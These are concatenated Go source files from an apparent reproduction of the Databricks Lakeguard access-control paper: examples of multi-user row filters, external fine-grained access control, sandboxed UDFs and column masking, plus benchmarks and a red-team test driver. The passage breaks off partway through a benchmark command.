// Package lakeguard is a from-scratch Go reproduction of "Databricks
// Lakeguard: Supporting Fine-grained Access Control and Multi-user
// Capabilities for Apache Spark Workloads" (SIGMOD-Companion '25).
//
// The implementation lives under internal/ (see DESIGN.md for the system
// inventory); runnable examples live under examples/; the root-level
// bench_test.go regenerates every table and figure of the paper's
// evaluation (see EXPERIMENTS.md).
package lakeguard
