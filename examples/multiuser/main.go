// Multiuser: many identities share governed serverless compute (paper §4.1,
// §6.2, Figure 10). All clients connect to one workspace-wide endpoint; the
// gateway routes sessions onto a fleet of Standard clusters and provisions
// new clusters under load. Each user's permissions — including dynamic
// CURRENT_USER() row filters — are enforced individually on the shared
// compute, and session state never leaks between users.
//
// Run with: go run ./examples/multiuser
package main

import (
	"fmt"
	"log"
	"net/http/httptest"
	"sync"

	"lakeguard/internal/catalog"
	"lakeguard/internal/connect"
	"lakeguard/internal/core"
	"lakeguard/internal/gateway"
	"lakeguard/internal/storage"
)

func main() {
	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin("admin@corp.com")

	// One workspace endpoint in front of an auto-scaling fleet.
	gw := gateway.New(gateway.Config{
		Provision: func(name string) *core.Server {
			fmt.Printf("[gateway] provisioning cluster %s\n", name)
			return core.NewServer(core.Config{
				Name: name, Catalog: cat, Compute: catalog.ComputeServerless,
			})
		},
		MaxSessionsPerCluster: 2,
	})
	tokens := connect.TokenMap{"t-admin": "admin@corp.com"}
	sellers := []string{"ann", "ben", "cat", "dan"}
	for _, s := range sellers {
		tokens["t-"+s] = s
	}
	endpoint := httptest.NewServer(connect.NewService(gw, tokens).Handler())
	defer endpoint.Close()

	// Shared governed data: every seller sees only their own rows.
	admin := connect.Dial(endpoint.URL, "t-admin")
	mustExec(admin, "CREATE TABLE commissions (seller STRING, amount DOUBLE)")
	mustExec(admin, `INSERT INTO commissions VALUES
		('ann', 120), ('ann', 80), ('ben', 200), ('cat', 45), ('dan', 310), ('dan', 15)`)
	mustExec(admin, "ALTER TABLE commissions SET ROW FILTER 'seller = CURRENT_USER()'")
	for _, s := range sellers {
		mustExec(admin, fmt.Sprintf("GRANT SELECT ON commissions TO '%s'", s))
	}

	// Four users hammer the endpoint concurrently.
	var wg sync.WaitGroup
	results := make(map[string]string)
	clients := make(map[string]*connect.Client)
	var mu sync.Mutex
	for _, seller := range sellers {
		wg.Add(1)
		go func(seller string) {
			defer wg.Done()
			c := connect.Dial(endpoint.URL, "t-"+seller)
			mu.Lock()
			clients[seller] = c
			mu.Unlock()

			// Session-private state: a temp view no other user can see.
			if err := c.Table("commissions").CreateTempView("mine"); err != nil {
				log.Fatal(err)
			}
			out, err := c.Sql("SELECT CURRENT_USER() AS me, COUNT(*) AS rows, SUM(amount) AS total FROM mine").Show()
			if err != nil {
				log.Fatal(err)
			}
			mu.Lock()
			results[seller] = out
			mu.Unlock()
		}(seller)
	}
	wg.Wait()

	for _, s := range sellers {
		fmt.Printf("== %s sees only their own commissions ==\n%s\n", s, results[s])
	}

	// The fleet scaled with the sessions.
	st := gw.FleetStats()
	fmt.Printf("fleet: %d clusters for %d sessions (cap 2/cluster)\n", st.Clusters, st.Sessions)
	for name, n := range st.PerCluster {
		fmt.Printf("  %s: %d session(s)\n", name, n)
	}

	// Drain a cluster: its sessions migrate with no user-visible loss.
	defer func() {
		for _, c := range clients {
			_ = c.Close()
		}
	}()
	migrated, err := gw.Drain(0)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("drained cluster 0, migrated %d session(s); fleet now %d clusters\n",
		migrated, gw.FleetStats().Clusters)

	// Cross-user isolation: ann cannot read ben's temp view name either —
	// temp state is keyed by session, sessions are keyed by user.
	ann := connect.Dial(endpoint.URL, "t-ann")
	if _, err := ann.Table("mine").Collect(); err != nil {
		fmt.Println("fresh session correctly has no 'mine' view:", err)
	}
}

func mustExec(c *connect.Client, sql string) {
	if _, err := c.ExecSQL(sql); err != nil {
		log.Fatalf("%s: %v", sql, err)
	}
}
