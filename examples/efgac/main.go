// eFGAC: external fine-grained access control (paper §3.4, Figure 8).
//
// A Dedicated cluster gives its user privileged machine access, so the
// engine cannot be trusted to enforce row filters locally: Unity Catalog
// withholds policy internals and storage credentials from it. Instead the
// query planner replaces the governed relation with a RemoteScan leaf,
// pushes filters/projections/partial aggregations into it, and executes the
// subquery on Serverless Spark — which re-resolves the relation, re-injects
// the row filter, and returns only permitted rows (inline, or spilled to
// cloud storage when large).
//
// This example walks Figure 8 end to end and prints each artifact.
//
// Run with: go run ./examples/efgac
package main

import (
	"fmt"
	"log"
	"net/http/httptest"

	"lakeguard/internal/catalog"
	"lakeguard/internal/connect"
	"lakeguard/internal/core"
	"lakeguard/internal/plan"
	"lakeguard/internal/storage"
	"lakeguard/internal/types"
)

func main() {
	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin("admin@corp.com")
	tokens := connect.TokenMap{"t-admin": "admin@corp.com", "t-user": "analyst@corp.com"}

	// Serverless Spark: standard-architecture fleet that can enforce FGAC.
	serverless := core.NewServer(core.Config{
		Name: "serverless", Catalog: cat, Compute: catalog.ComputeServerless,
		SpillThreshold: 4096, // small results inline, larger ones spill
	})
	slEndpoint := httptest.NewServer(connect.NewService(serverless, tokens).Handler())
	defer slEndpoint.Close()

	// The eFGAC client the dedicated cluster uses for remote subqueries.
	tokenFor := map[string]string{"admin@corp.com": "t-admin", "analyst@corp.com": "t-user"}
	efgac := &core.EFGACClient{
		Dial: func(user, sessionID string) *connect.Client {
			return connect.Dial(slEndpoint.URL, tokenFor[user])
		},
		Cat: cat, Store: cat.Store(),
	}

	// The Dedicated cluster (GPU ML box, full machine access).
	dedicated := core.NewServer(core.Config{
		Name: "dedicated", Catalog: cat, Compute: catalog.ComputeDedicated, Remote: efgac,
	})
	dedEndpoint := httptest.NewServer(connect.NewService(dedicated, tokens).Handler())
	defer dedEndpoint.Close()

	// A standard cluster for governance setup.
	std := core.NewServer(core.Config{Name: "std", Catalog: cat, Compute: catalog.ComputeStandard})
	stdEndpoint := httptest.NewServer(connect.NewService(std, tokens).Handler())
	defer stdEndpoint.Close()

	admin := connect.Dial(stdEndpoint.URL, "t-admin")
	mustExec(admin, "CREATE TABLE sales (amount DOUBLE, date DATE, seller STRING, region STRING)")
	mustExec(admin, `INSERT INTO sales VALUES
		(120.0, CAST('2024-12-01' AS DATE), 'ann', 'US'),
		(80.0,  CAST('2024-12-01' AS DATE), 'ben', 'EU'),
		(45.0,  CAST('2024-12-01' AS DATE), 'cat', 'US'),
		(300.0, CAST('2024-12-02' AS DATE), 'ann', 'US'),
		(95.0,  CAST('2024-12-01' AS DATE), 'dan', 'APAC')`)
	// The row filter of the paper's example: only US sales are visible.
	mustExec(admin, "ALTER TABLE sales SET ROW FILTER 'region = ''US'''")
	mustExec(admin, "GRANT SELECT ON sales TO 'analyst@corp.com'")

	const query = "SELECT amount, date, seller FROM sales WHERE date = '2024-12-01'"
	fmt.Println("Source query:\n  ", query)

	// --- On Standard compute: the filter is injected locally -------------
	stdUser := connect.Dial(stdEndpoint.URL, "t-user")
	stdPlan, err := stdUser.Sql(query).Explain()
	must(err)
	fmt.Println("\nFully resolved plan on STANDARD compute (SecureView barrier,")
	fmt.Println("row filter enforced locally; interior redacted for non-owners):")
	fmt.Println(indent(stdPlan))

	// --- On Dedicated compute: rewritten to a remote scan ----------------
	dedUser := connect.Dial(dedEndpoint.URL, "t-user")
	dedPlan, err := dedUser.Sql(query).Explain()
	must(err)
	fmt.Println("Rewritten plan on DEDICATED compute (RemoteScan leaf with pushed")
	fmt.Println("projection and filter; no policy internals present):")
	fmt.Println(indent(dedPlan))

	// The exact subquery text shipped to Serverless Spark:
	rendered := core.RenderRemoteSQL(&plan.RemoteScan{
		Relation:         "main.default.sales",
		PushedProjection: []string{"amount", "date", "seller"},
		PushedFilters: []plan.Expr{plan.Eq(plan.Col("date"),
			&plan.Cast{Child: plan.Lit(types.String("2024-12-01")), To: types.KindDate})},
		PushedLimit: -1,
	})
	fmt.Println("Remote subquery submitted over Spark Connect:")
	fmt.Println("  ", rendered)

	// --- Execute ----------------------------------------------------------
	out, err := dedUser.Sql(query).Show()
	must(err)
	fmt.Println("\nResult on the dedicated cluster (row filter applied remotely):")
	fmt.Println(out)

	remote, spilled := efgac.Stats()
	fmt.Printf("eFGAC subqueries: %d (spilled file reads: %d)\n", remote, spilled)

	// --- Large results use the cloud-spill mode ---------------------------
	mustExec(admin, "CREATE TABLE big (id BIGINT, payload STRING)")
	for c := 0; c < 4; c++ {
		stmt := "INSERT INTO big VALUES "
		for i := 0; i < 250; i++ {
			if i > 0 {
				stmt += ", "
			}
			stmt += fmt.Sprintf("(%d, 'row-%06d-payload-payload-payload')", c*250+i, c*250+i)
		}
		mustExec(admin, stmt)
	}
	mustExec(admin, "ALTER TABLE big SET ROW FILTER 'id >= 0'")
	mustExec(admin, "GRANT SELECT ON big TO 'analyst@corp.com'")
	n, err := dedUser.Table("big").Count()
	must(err)
	b, err := dedUser.Sql("SELECT id, payload FROM big").Collect()
	must(err)
	_, spilledAfter := efgac.Stats()
	fmt.Printf("\nLarge eFGAC result: %d rows (count %d) fetched via %d spilled files\n",
		b.NumRows(), n, spilledAfter)
}

func mustExec(c *connect.Client, sql string) {
	if _, err := c.ExecSQL(sql); err != nil {
		log.Fatalf("%s: %v", sql, err)
	}
}

func must(err error) {
	if err != nil {
		log.Fatal(err)
	}
}

func indent(s string) string {
	out := ""
	for _, line := range splitLines(s) {
		out += "   " + line + "\n"
	}
	return out
}

func splitLines(s string) []string {
	var out []string
	start := 0
	for i := 0; i < len(s); i++ {
		if s[i] == '\n' {
			out = append(out, s[start:i])
			start = i + 1
		}
	}
	if start < len(s) {
		out = append(out, s[start:])
	}
	return out
}
