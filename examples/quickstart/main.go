// Quickstart: boot a governed single-cluster deployment, create a table,
// and query it through the Connect protocol with SQL and the DataFrame API.
//
// Run with: go run ./examples/quickstart
package main

import (
	"fmt"
	"log"
	"net/http/httptest"

	"lakeguard/internal/catalog"
	"lakeguard/internal/connect"
	"lakeguard/internal/core"
	"lakeguard/internal/storage"
	"lakeguard/internal/types"
)

func main() {
	// 1. The substrate: an object store and the governance catalog.
	store := storage.NewStore()
	cat := catalog.New(store, nil)
	cat.AddAdmin("admin@corp.com")

	// 2. A Standard (multi-user) Lakeguard cluster behind a Connect endpoint.
	server := core.NewServer(core.Config{
		Name:    "quickstart",
		Catalog: cat,
		Compute: catalog.ComputeStandard,
	})
	endpoint := httptest.NewServer(connect.NewService(server, connect.TokenMap{
		"admin-token": "admin@corp.com",
	}).Handler())
	defer endpoint.Close()

	// 3. Connect like any Spark Connect client would.
	client := connect.Dial(endpoint.URL, "admin-token")
	defer client.Close()

	mustExec(client, "CREATE TABLE trips (city STRING, distance_km DOUBLE, fare DOUBLE)")
	mustExec(client, `INSERT INTO trips VALUES
		('berlin', 3.2, 11.5), ('berlin', 8.0, 24.0),
		('paris', 2.1, 9.0), ('paris', 15.5, 41.0), ('paris', 4.4, 13.5)`)

	// 4. Query with SQL...
	fmt.Println("== SQL ==")
	show(client.Sql("SELECT city, COUNT(*) AS trips, AVG(fare) AS avg_fare FROM trips GROUP BY city ORDER BY trips DESC"))

	// 5. ...or with the DataFrame API (same plans, same wire protocol).
	fmt.Println("== DataFrame ==")
	show(client.Table("trips").
		Where(connect.Col("distance_km").Gt(connect.Lit(3.0))).
		Select(connect.Col("city"),
			connect.Col("fare").Div(connect.Col("distance_km")).As("fare_per_km")).
		OrderBy(connect.Col("fare_per_km").Desc()))

	// 6. User code runs isolated in sandboxes, never inside the engine.
	if err := client.RegisterFunction("surge",
		[]types.Field{{Name: "fare", Kind: types.KindFloat64}},
		types.KindFloat64,
		"return fare * 1.2 if fare > 20 else fare"); err != nil {
		log.Fatal(err)
	}
	fmt.Println("== PyLite UDF (sandboxed) ==")
	show(client.Sql("SELECT city, surge(fare) AS surged FROM trips ORDER BY surged DESC LIMIT 3"))

	st := server.Dispatcher().Stats()
	fmt.Printf("sandboxes: %d cold start(s), %d warm reuse(s)\n", st.ColdStarts, st.Reuses)
}

func mustExec(c *connect.Client, sql string) {
	if _, err := c.ExecSQL(sql); err != nil {
		log.Fatalf("%s: %v", sql, err)
	}
}

func show(df *connect.DataFrame) {
	out, err := df.Show()
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(out)
}
