// Healthcare: the paper's motivating example (§2.1, Figures 1–3).
//
// A healthcare enterprise stores patient sensor data with PII in
// raw_data_table. Data scientists must analyze sensor readings — including
// running their own feature-extraction UDFs — but must never see PII. The
// administrator expresses this once in the catalog (a dedicated sensor_view
// plus a column mask), and Lakeguard enforces it for every workload: ad-hoc
// SQL, DataFrame pipelines, and sandboxed user code.
//
// Run with: go run ./examples/healthcare
package main

import (
	"fmt"
	"log"
	"net/http/httptest"

	"lakeguard/internal/catalog"
	"lakeguard/internal/connect"
	"lakeguard/internal/core"
	"lakeguard/internal/sandbox"
	"lakeguard/internal/storage"
	"lakeguard/internal/types"
)

const (
	adminUser = "admin@healthco.example"
	scientist = "datasci@healthco.example"
	clinician = "clinician@healthco.example"
)

func main() {
	store := storage.NewStore()
	cat := catalog.New(store, nil)
	cat.AddAdmin(adminUser)
	cat.CreateGroup("clinicians", clinician)
	cat.CreateGroup("data_scientists", scientist)

	// Standard multi-user compute; user code may call the (simulated)
	// air-quality service but nothing else — the egress control of §3.3.
	server := core.NewServer(core.Config{
		Name:    "healthco",
		Catalog: cat,
		Compute: catalog.ComputeStandard,
		Sandbox: sandbox.Config{
			Egress: sandbox.EgressPolicy{
				AllowedHosts: []string{"example.aqi.com"},
				Resolver: func(url string) (string, error) {
					// Simulated external service (paper Fig. 6).
					return `{"yesterday": 41.5}`, nil
				},
			},
		},
	})
	endpoint := httptest.NewServer(connect.NewService(server, connect.TokenMap{
		"t-admin": adminUser, "t-ds": scientist, "t-md": clinician,
	}).Handler())
	defer endpoint.Close()

	admin := connect.Dial(endpoint.URL, "t-admin")

	// --- The administrator's one-time governance setup -------------------
	mustExec(admin, `CREATE TABLE raw_data_table (
		patient_id BIGINT,
		patient_name STRING,
		zip STRING,
		ts TIMESTAMP,
		heart_rate DOUBLE,
		sensor_blob STRING
	)`)
	mustExec(admin, `INSERT INTO raw_data_table VALUES
		(1, 'Ada Lovelace',  '94105', CAST('2026-07-01 08:00:00' AS TIMESTAMP), 62.0, '0.41;0.39;0.44'),
		(1, 'Ada Lovelace',  '94105', CAST('2026-07-01 09:00:00' AS TIMESTAMP), 71.0, '0.52;0.49;0.57'),
		(2, 'Grace Hopper',  '10001', CAST('2026-07-01 08:30:00' AS TIMESTAMP), 58.0, '0.33;0.30;0.31'),
		(3, 'Alan Turing',   '94105', CAST('2026-07-01 10:00:00' AS TIMESTAMP), 80.0, '0.61;0.66;0.64')`)

	// The dedicated view for the data-science team: PII filtered out.
	mustExec(admin, `CREATE VIEW sensor_view AS
		SELECT patient_id, zip, ts, heart_rate, sensor_blob FROM raw_data_table`)
	mustExec(admin, "GRANT SELECT ON sensor_view TO data_scientists")

	// Clinicians see the raw table, but patient names are masked unless
	// the reader is a clinician (cell-level dynamic FGAC, Fig. 3).
	mustExec(admin, `ALTER TABLE raw_data_table ALTER COLUMN patient_name
		SET MASK 'CASE WHEN IS_ACCOUNT_GROUP_MEMBER(''clinicians'') THEN patient_name ELSE ''<redacted>'' END'`)
	mustExec(admin, "GRANT SELECT ON raw_data_table TO clinicians")

	// --- The data scientist's workload -----------------------------------
	ds := connect.Dial(endpoint.URL, "t-ds")

	fmt.Println("== Data scientist: raw table is off limits ==")
	if _, err := ds.Table("raw_data_table").Collect(); err != nil {
		fmt.Println("  denied as expected:", err)
	}

	fmt.Println("\n== Data scientist: sensor_view (no PII columns exist here) ==")
	showDF(ds.Table("sensor_view").OrderBy(connect.Col("ts").Asc()))

	// Feature extraction with user code: converts the binary-ish sensor
	// blob into a feature (mean of the samples). Runs in a sandbox.
	if err := ds.RegisterFunction("extract_feature",
		[]types.Field{{Name: "blob", Kind: types.KindString}},
		types.KindFloat64, featureExtractor); err != nil {
		log.Fatal(err)
	}
	fmt.Println("== Data scientist: UDF feature extraction over the view ==")
	showDF(ds.Sql(`SELECT patient_id, extract_feature(sensor_blob) AS mean_amplitude
		FROM sensor_view ORDER BY mean_amplitude DESC`))

	// User code calling an external service — allowed host only (Fig. 6).
	if err := ds.RegisterFunction("resolve_zip_to_air_quality",
		[]types.Field{{Name: "zip", Kind: types.KindString}},
		types.KindFloat64,
		"resp = http_get('http://example.aqi.com/zip/' + zip)\nreturn 41.5"); err != nil {
		log.Fatal(err)
	}
	fmt.Println("== Data scientist: UDF with governed egress ==")
	showDF(ds.Sql(`SELECT DISTINCT zip, resolve_zip_to_air_quality(zip) AS aqi FROM sensor_view`))

	// --- The clinician's workload -----------------------------------------
	md := connect.Dial(endpoint.URL, "t-md")
	fmt.Println("== Clinician: raw table with unmasked names ==")
	showDF(md.Sql("SELECT patient_name, heart_rate FROM raw_data_table ORDER BY heart_rate"))

	// --- Everything is audited --------------------------------------------
	fmt.Println("== Audit trail (last 5 events) ==")
	events := cat.Audit().Events(nil)
	for _, e := range events[max(0, len(events)-5):] {
		fmt.Println("  ", e.String())
	}
}

// featureExtractor parses "v1;v2;v3" and returns the mean — domain logic as
// untrusted PyLite code.
const featureExtractor = `
total = 0.0
count = 0
start = 0
i = 0
n = len(blob)
while i <= n:
    if i == n or substr(blob, i, i + 1) == ';':
        total = total + float(substr(blob, start, i))
        count = count + 1
        start = i + 1
    i = i + 1
return total / count
`

func mustExec(c *connect.Client, sql string) {
	if _, err := c.ExecSQL(sql); err != nil {
		log.Fatalf("%s: %v", sql, err)
	}
}

func showDF(df *connect.DataFrame) {
	out, err := df.Show()
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(out)
}

func max(a, b int) int {
	if a > b {
		return a
	}
	return b
}
