// Benchmarks regenerating the paper's evaluation (one per table/figure plus
// the ablations DESIGN.md calls out). Absolute numbers come from this Go
// simulator, not the authors' production testbed; the shape is what is
// reproduced. Run:
//
//	go test -bench=. -benchmem
//
// For the formatted paper-style tables, use: go run ./cmd/lakeguard-bench
package lakeguard

import (
	"fmt"
	"testing"
	"time"

	"lakeguard/internal/analyzer"
	"lakeguard/internal/bench"
	"lakeguard/internal/optimizer"
	"lakeguard/internal/sandbox"
	"lakeguard/internal/types"
)

// benchWorld prepares a seeded world and a UDF query plan once per config.
func benchWorld(b *testing.B, rows, numUDFs int, body string, returns types.Kind, inProcess, fuse bool) (*bench.World, func() error) {
	b.Helper()
	w := bench.NewWorld(sandbox.Config{})
	w.Engine.UnsafeInProcessUDFs = inProcess
	w.Engine.FuseUDFs = fuse
	if err := w.SeedPairs(rows); err != nil {
		b.Fatal(err)
	}
	opts := optimizer.DefaultOptions()
	opts.FuseUDFs = fuse
	names := make([]string, numUDFs)
	for i := range names {
		names[i] = fmt.Sprintf("udf%d", i)
	}
	pl, err := w.PreparePlan(bench.UDFQuery(names), func(a *analyzer.Analyzer) {
		bench.RegisterBenchUDFs(a, numUDFs, body, returns, bench.Admin)
	}, opts)
	if err != nil {
		b.Fatal(err)
	}
	run := func() error {
		got, err := w.Run(pl)
		if err != nil {
			return err
		}
		if got != rows {
			return fmt.Errorf("expected %d rows, got %d", rows, got)
		}
		return nil
	}
	// Warm up: provision the sandbox outside the timed region.
	if err := run(); err != nil {
		b.Fatal(err)
	}
	return w, run
}

// BenchmarkTable2 regenerates Table 2: sandboxed vs unisolated execution of
// the simple Sum(a+b) and 100x-SHA256 UDFs across UDF counts. Compare the
// Sandboxed and InProcess variants of each point to obtain the paper's
// relative-overhead percentages.
func BenchmarkTable2(b *testing.B) {
	kernels := []struct {
		name    string
		body    string
		returns types.Kind
		rows    int
	}{
		{"SimpleUDF", bench.SimpleUDFBody, types.KindInt64, 50_000},
		{"HashUDF", bench.HashUDFBody, types.KindString, 1_500},
	}
	for _, k := range kernels {
		for _, n := range []int{1, 2, 5, 10} {
			for _, mode := range []struct {
				name      string
				inProcess bool
			}{{"Sandboxed", false}, {"InProcess", true}} {
				b.Run(fmt.Sprintf("%s/n=%d/%s", k.name, n, mode.name), func(b *testing.B) {
					_, run := benchWorld(b, k.rows, n, k.body, k.returns, mode.inProcess, true)
					b.ResetTimer()
					for i := 0; i < b.N; i++ {
						if err := run(); err != nil {
							b.Fatal(err)
						}
					}
					b.ReportMetric(float64(k.rows*n*b.N)/b.Elapsed().Seconds(), "udf-rows/s")
				})
			}
		}
	}
}

// BenchmarkColdStart regenerates the §5 startup experiment: the first UDF
// query of a session pays sandbox provisioning; warm queries do not.
func BenchmarkColdStart(b *testing.B) {
	const provision = 100 * time.Millisecond
	b.Run("FirstQuery", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			res, err := bench.RunColdStart(bench.ColdStartConfig{
				Provision: provision, Rows: 2_000, WarmQueries: 0,
			})
			if err != nil {
				b.Fatal(err)
			}
			if res.ColdStarts != 1 {
				b.Fatalf("cold starts = %d", res.ColdStarts)
			}
		}
	})
	b.Run("WarmQuery", func(b *testing.B) {
		w := bench.NewWorld(sandbox.Config{ColdStart: provision})
		if err := w.SeedPairs(2_000); err != nil {
			b.Fatal(err)
		}
		pl, err := w.PreparePlan(bench.UDFQuery([]string{"udf0"}), func(a *analyzer.Analyzer) {
			bench.RegisterBenchUDFs(a, 1, bench.SimpleUDFBody, types.KindInt64, bench.Admin)
		}, optimizer.DefaultOptions())
		if err != nil {
			b.Fatal(err)
		}
		if _, err := w.Run(pl); err != nil { // pay the cold start once
			b.Fatal(err)
		}
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if _, err := w.Run(pl); err != nil {
				b.Fatal(err)
			}
		}
	})
}

// BenchmarkTable1CapabilityProbes regenerates Table 1 by timing the full
// end-to-end capability probe suite (every cell is a live probe).
func BenchmarkTable1CapabilityProbes(b *testing.B) {
	for i := 0; i < b.N; i++ {
		rows, err := bench.RunTable1()
		if err != nil {
			b.Fatal(err)
		}
		for _, r := range rows {
			if r.Lakeguard == "FAILED" {
				b.Fatalf("probe failed: %s", r.Property)
			}
		}
	}
}

// BenchmarkAblationNoFusion is ablation A1: the same 10-UDF query with
// fusion disabled pays one sandbox crossing per UDF per batch.
func BenchmarkAblationNoFusion(b *testing.B) {
	for _, fuse := range []bool{true, false} {
		name := "Fused"
		if !fuse {
			name = "Unfused"
		}
		b.Run(name, func(b *testing.B) {
			_, run := benchWorld(b, 20_000, 10, bench.SimpleUDFBody, types.KindInt64, false, fuse)
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if err := run(); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkAblationTrustDomains is ablation A2: two UDFs of different owners
// never share a sandbox, so mixed-owner projections pay two crossings.
func BenchmarkAblationTrustDomains(b *testing.B) {
	cases := []struct {
		name   string
		owners []string
	}{
		{"SameOwner", []string{"alice", "alice"}},
		{"MixedOwners", []string{"alice", "bob"}},
	}
	for _, c := range cases {
		b.Run(c.name, func(b *testing.B) {
			w := bench.NewWorld(sandbox.Config{})
			if err := w.SeedPairs(20_000); err != nil {
				b.Fatal(err)
			}
			pl, err := w.PreparePlan("SELECT udf0(a, b) AS r0, udf1(a, b) AS r1 FROM pairs",
				func(a *analyzer.Analyzer) {
					a.TempFuncs = map[string]analyzer.TempFunc{}
					for i, owner := range c.owners {
						a.TempFuncs[fmt.Sprintf("udf%d", i)] = analyzer.TempFunc{
							Params: []types.Field{
								{Name: "a", Kind: types.KindInt64},
								{Name: "b", Kind: types.KindInt64},
							},
							Returns: types.KindInt64,
							Body:    bench.SimpleUDFBody,
							Owner:   owner,
						}
					}
				}, optimizer.DefaultOptions())
			if err != nil {
				b.Fatal(err)
			}
			if _, err := w.Run(pl); err != nil {
				b.Fatal(err)
			}
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if _, err := w.Run(pl); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkMembraneComparison is ablation A3: shared sandbox pool vs static
// two-domain split under bursty load (scheduling simulation).
func BenchmarkMembraneComparison(b *testing.B) {
	var last bench.MembraneResult
	for i := 0; i < b.N; i++ {
		last = bench.RunMembraneComparison(bench.DefaultMembraneConfig())
	}
	b.ReportMetric(last.LakeguardUtilization*100, "lakeguard-util-%")
	b.ReportMetric(last.MembraneUtilization*100, "membrane-util-%")
}

// BenchmarkParallelScanAggregate measures the morsel-driven scan→filter→
// aggregate pipeline at increasing worker counts over a 500k-row, ~61-file
// table with modeled object-store GET latency (12ms per data file). The
// speedup comes from workers overlapping GET waits; see internal/bench/exec.go
// and DESIGN.md §8. Use -short for a reduced table.
func BenchmarkParallelScanAggregate(b *testing.B) {
	rows, perFile, latency := 500_000, 8192, 12*time.Millisecond
	if testing.Short() {
		rows, perFile, latency = 50_000, 2048, 3*time.Millisecond
	}
	w := bench.NewWorld(sandbox.Config{})
	files, err := w.SeedEvents(rows, perFile)
	if err != nil {
		b.Fatal(err)
	}
	pl, err := w.PreparePlan(bench.ExecScalingQuery, nil, optimizer.DefaultOptions())
	if err != nil {
		b.Fatal(err)
	}
	w.Engine.Tables = bench.NewLatencyTables(w.Cat, latency)
	defer func() { w.Engine.Tables = w.Cat }()
	for _, workers := range []int{1, 2, 4, 8} {
		b.Run(fmt.Sprintf("workers=%d", workers), func(b *testing.B) {
			w.Engine.Parallelism = workers
			defer func() { w.Engine.Parallelism = 0 }()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				n, err := w.Run(pl)
				if err != nil {
					b.Fatal(err)
				}
				if n == 0 {
					b.Fatal("no rows")
				}
			}
			b.ReportMetric(float64(rows*b.N)/b.Elapsed().Seconds(), "rows/s")
			b.ReportMetric(float64(files), "files")
		})
	}
}

// BenchmarkVectorizedFilter compares the row-interpreter filter path to the
// compiled columnar kernel on a simple comparison predicate (v > 500). The
// acceptance bar for the vectorized path is >=3x.
func BenchmarkVectorizedFilter(b *testing.B) {
	const rows = 8192
	kernel, err := bench.NewFilterKernel(rows)
	if err != nil {
		b.Fatal(err)
	}
	for _, mode := range []struct {
		name string
		fn   func() int
	}{{"RowInterp", kernel.RunRowInterp}, {"VecKernel", kernel.RunVec}} {
		b.Run(mode.name, func(b *testing.B) {
			kept := 0
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				kept = mode.fn()
			}
			if kept == 0 {
				b.Fatal("predicate kept nothing")
			}
			b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N*rows), "ns/row")
		})
	}
}

// BenchmarkEFGACResultModes is E8: inline vs cloud-spill result handling on
// the dedicated→serverless eFGAC path.
func BenchmarkEFGACResultModes(b *testing.B) {
	if testing.Short() {
		b.Skip("short mode")
	}
	for i := 0; i < b.N; i++ {
		rows, err := bench.RunEFGACModes(bench.EFGACModesConfig{RowCounts: []int{1_000}, Repetitions: 1})
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(float64(rows[0].Inline.Microseconds()), "inline-us")
		b.ReportMetric(float64(rows[0].Spill.Microseconds()), "spill-us")
	}
}
