// Command lakeguard-redteam drills the adversarial bypass corpus: every
// known bypass class (UDF smuggling, plan injection, label-dropping
// rewrites, implicit flows, TOCTOU tampering) is mounted against a fresh
// governed deployment and must be blocked by the sentinel with a
// label-attributed SENTINEL_VERIFY denial. See internal/redteam for the
// cases.
//
// Usage:
//
//	lakeguard-redteam [-json] [-v]
//
// Exit status is 0 when every case is blocked and attributed, 1 when any
// bypass got through (or lost its attribution) — a live governance hole.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"

	"lakeguard/internal/redteam"
)

func main() {
	jsonOut := flag.Bool("json", false, "emit results as a JSON array")
	verbose := flag.Bool("v", false, "print the denial text for blocked cases")
	flag.Parse()

	results := redteam.RunAll()
	failed := 0
	for _, r := range results {
		if !r.Passed() {
			failed++
		}
	}

	if *jsonOut {
		enc := json.NewEncoder(os.Stdout)
		enc.SetIndent("", "  ")
		if err := enc.Encode(results); err != nil {
			fmt.Fprintln(os.Stderr, "lakeguard-redteam:", err)
			os.Exit(2)
		}
	} else {
		for _, r := range results {
			status := "BLOCKED"
			if !r.Passed() {
				status = "FAILED "
			}
			fmt.Printf("%s  %-28s %-15s %s\n", status, r.Name, r.Class, r.Description)
			for _, f := range r.Failures {
				fmt.Printf("         !! %s\n", f)
			}
			if *verbose && r.Error != "" {
				fmt.Printf("         denial: %s\n", r.Error)
			}
		}
	}

	if failed > 0 {
		fmt.Fprintf(os.Stderr, "lakeguard-redteam: %d of %d case(s) FAILED — live bypass\n", failed, len(results))
		os.Exit(1)
	}
	fmt.Fprintf(os.Stderr, "lakeguard-redteam: all %d case(s) blocked and attributed\n", len(results))
}
