// lakeguard-bench regenerates the paper's evaluation tables and figures in
// their published layout. See DESIGN.md §2 for the experiment index and
// EXPERIMENTS.md for recorded paper-vs-measured results.
//
// Usage:
//
//	go run ./cmd/lakeguard-bench                      # run everything
//	go run ./cmd/lakeguard-bench -experiment table2   # one experiment
//	go run ./cmd/lakeguard-bench -quick               # reduced sizes
package main

import (
	"flag"
	"fmt"
	"log"
	"os"
	"time"

	"lakeguard/internal/bench"
)

func main() {
	experiment := flag.String("experiment", "all",
		"which experiment to run: table1, table2, coldstart, membrane, efgac-modes, exec, skipping, join, telemetry, churn, tenancy, all")
	quick := flag.Bool("quick", false, "reduced problem sizes for a fast smoke run")
	jsonOut := flag.String("json", "", "also write machine-readable results to this file (exec experiment → BENCH_exec.json)")
	maxOverheadPct := flag.Float64("max-overhead-pct", 0,
		"telemetry experiment: fail (non-zero exit) if instrumentation overhead exceeds this percentage (0 = report only)")
	flag.Parse()

	run := func(name string, fn func() error) {
		switch *experiment {
		case "all", name:
